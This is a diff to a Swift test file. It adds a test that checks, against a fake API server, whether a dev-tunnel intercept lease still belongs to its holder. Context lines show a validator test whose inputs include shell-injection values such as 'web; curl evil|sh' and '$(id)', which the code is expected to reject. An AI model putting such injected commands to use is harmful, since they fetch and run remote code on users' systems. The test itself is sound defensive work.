@@ -60,6 +60,29 @@ import Testing
     #expect(server.requests.map(\.method) == requests)
   }
 
+  @Test(
+    "If it may no longer be renewed, its content decides whether the intercept is ours",
+    arguments: [("alice@laptop", true), ("bob@desk", false)])
+  func unrenewable(holder: String, isOurs: Bool) async throws {
+    let server = FakeAPIServer { request in
+      guard request.method == "GET" else {
+        return (403, ["kind": "Status", "reason": "Forbidden", "code": 403])
+      }
+      return (
+        200,
+        [
+          "metadata": ["name": "devtunnel-web"],
+          "spec": ["holderIdentity": JSONValue(holder), "leaseTransitions": 1],
+        ]
+      )
+    }
+    defer { server.stop() }
+    try await withInterception(server) { interception, _ in
+      let lease = try #require(await interception.lease)
+      #expect(try await interception.isStillOurs(lease) == isOurs)
+    }
+  }
+
   @Test("A Service that no Service can be called is not named, least of all in a command to be copied")
   func service() throws {
     for (text, service) in [("web-alt", "web-alt"), ("web; curl evil|sh", nil), ("", nil), ("$(id)", nil)] {
